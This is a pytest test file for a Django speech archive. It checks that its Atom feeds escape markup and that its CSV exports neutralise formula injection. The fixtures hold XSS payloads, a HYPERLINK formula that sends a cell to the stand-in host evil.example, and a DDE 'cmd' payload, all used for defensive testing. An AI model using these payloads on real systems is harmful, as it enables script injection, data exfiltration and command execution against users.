"""What the archive sends out of its own text stays text: feeds carry no live markup, downloads no
spreadsheet formulas, and a download that cannot read the database says so instead of a cut file."""

import csv
import io
import xml.etree.ElementTree as ET
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.db import OperationalError, connection

from speeches.models import Target
from tests.views.factories import SHANGQIU, Pledge

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"


class _Elements(HTMLParser):
    """The elements an HTML fragment holds, and its text as a reader would show it."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text += data


@pytest.fixture
def hostile(archive):
    """A speech whose title, speaker, text and commitments carry markup."""
    outline = [("", "", f"同志们：{SCRIPT}开会。{IMG}", None), ("一、", "目标", f"全年引进项目100个{IMG}", None)]
    speech = archive.speech(
        f"关于{SCRIPT}的讲话",
        city=SHANGQIU,
        topics=("economy",),
        outline=outline,
        pledges=[Pledge(f"全年引进项目100个{IMG}{SCRIPT}", kind="target", targets=[("100", "个", "")])],
    )
    type(speech).objects.filter(pk=speech.pk).update(speaker=IMG, occasion=SCRIPT)
    return speech


def summaries(client, path: str) -> list[ET.Element]:
    response = client.get(path)
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    found = [entry.find(f"{ATOM}summary") for entry in root.iter(f"{ATOM}entry")]
    assert found
    return found


@pytest.mark.parametrize(
    "path",
    [
        "/feeds/speeches.atom",
        f"/feeds/cities/{SHANGQIU}.atom",
        "/feeds/topics/economy.atom",
        "/feeds/commitments.atom",
        "/feeds/commitments.atom?q=引进项目",
    ],
)
def test_feed_summaries_show_markup_in_the_text_as_text(client, hostile, path):
    for summary in summaries(client, path):
        assert summary.get("type") == "html"
        html = _Elements(summary.text)
        # A reader renders the summary as HTML: nothing of the speech's markup may become an element.
        assert set(html.tags) <= {"br"}
        # ... and the reader shows the text as it was written, markup and all.
        assert SCRIPT in html.text or IMG in html.text


def test_a_speech_feed_summary_keeps_its_particulars_and_opening(client, hostile):
    (summary,) = summaries(client, "/feeds/speeches.atom")
    text = _Elements(summary.text).text
    assert text.startswith(f"河南省 商丘市 · 2025年 · {IMG} · {SCRIPT}")
    assert f"同志们：{SCRIPT}开会。{IMG}" in text


def test_a_commitment_feed_summary_names_its_speech(client, hostile):
    (summary,) = summaries(client, "/feeds/commitments.atom")
    assert (
        _Elements(summary.text).text == f"全年引进项目100个{IMG}{SCRIPT}——关于{SCRIPT}的讲话 · 河南省 商丘市 · 2025年"
    )


# --- spreadsheet formulas in CSV --------------------------------------------------------------


def csv_rows(client, path: str) -> list[dict]:
    response = client.get(path)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body, newline="")))


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.fixture
def formulas(archive):
    speech = archive.speech(
        FORMULA_TITLE,
        pledges=[
            Pledge("+全年增长6%", kind="target", targets=[("6", "%", "")], responsible="@SUM(1+1)"),
            Pledge("-2+3", deadline_text="=1+1"),
            Pledge("\t=cmd|' /C calc'!A0"),
            Pledge("全年能耗下降3.5%", kind="target", targets=[("3.5", "%", "")]),
        ],
    )
    type(speech).objects.filter(pk=speech.pk).update(speaker="=1+2", occasion="\r=1")
    Target.objects.filter(commitment__text="全年能耗下降3.5%").update(value=Decimal("-3.5"), text="-3.5%")
    return speech


def test_commitment_csv_cells_that_would_run_as_formulas_are_shown_as_text(client, formulas):
    rows = {row["text"]: row for row in csv_rows(client, "/commitments/export.csv")}
    assert set(rows) == {"'+全年增长6%", "'-2+3", "'\t=cmd|' /C calc'!A0", "全年能耗下降3.5%"}
    assert {row["speech_title"] for row in rows.values()} == {"'" + FORMULA_TITLE}
    assert rows["'+全年增长6%"]["responsible"] == "'@SUM(1+1)"
    assert rows["'-2+3"]["deadline_text"] == "'=1+1"
    fallen = rows["全年能耗下降3.5%"]
    # An amount the archive writes is a number, negative or not; its text as written is text.
    assert (fallen["target_value"], fallen["target_text"]) == ("-3.5", "'-3.5%")
    assert rows["'+全年增长6%"]["target_value"] == "6"
    assert fallen["speech_id"] == str(formulas.pk) and fallen["year"] == "2025"


def test_speech_csv_cells_that_would_run_as_formulas_are_shown_as_text(client, formulas):
    (row,) = csv_rows(client, "/speeches/export.csv")
    assert (row["title"], row["speaker"], row["occasion"]) == ("'" + FORMULA_TITLE, "'=1+2", "'\r=1")
    assert row["city_name"] == "商丘市" and row["commitment_count"] == "4"
    assert row["url"] == f"http://testserver/speeches/{formulas.pk}/"


# --- the database down ------------------------------------------------------------------------


@pytest.fixture
def database_down(monkeypatch):
    def refuse(*args, **kwargs):
        raise OperationalError("connection to server at 127.0.0.1, port 5432 failed: Connection refused")

    def down():
        monkeypatch.setattr(connection, "cursor", refuse)
        monkeypatch.setattr(connection, "chunked_cursor", refuse)

    return down


@pytest.mark.parametrize(
    "path",
    [
        "/commitments/export.csv",
        "/commitments/export.jsonl",
        "/speeches/export.csv",
        "/speeches/export.jsonl",
        f"/commitments/export.csv?city={SHANGQIU}&q=外资",
        f"/speeches/export.csv?city={SHANGQIU}",
    ],
)
def test_a_download_without_the_database_is_a_503_not_a_cut_file(client, speeches, database_down, path):
    database_down()
    response = client.get(path)
    assert response.status_code == 503
    assert not response.streaming
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in response
    assert response["Retry-After"] == "30"
    assert "数据库暂时无法访问" in response.content.decode()


def test_a_download_of_no_rows_is_still_a_file_with_its_header(client, db):
    response = client.get("/speeches/export.csv")
    assert response.status_code == 200
    assert b"".join(response.streaming_content).decode("utf-8-sig").startswith("speech_id,title,")
